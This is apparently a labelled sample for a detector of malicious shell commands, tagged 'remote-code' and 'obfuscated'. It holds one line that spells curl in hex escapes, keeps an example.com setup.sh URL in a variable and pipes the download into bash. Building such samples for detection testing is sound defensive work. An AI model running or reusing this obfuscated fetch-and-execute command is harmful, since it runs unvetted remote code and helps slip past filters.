# description: Spells curl in hex escapes, keeps the URL in a variable and pipes the result to bash.
# family: remote-code
# obfuscated: yes
U=https://example.com/setup.sh
$'\x63\x75\x72\x6c' -s "$U" | bash
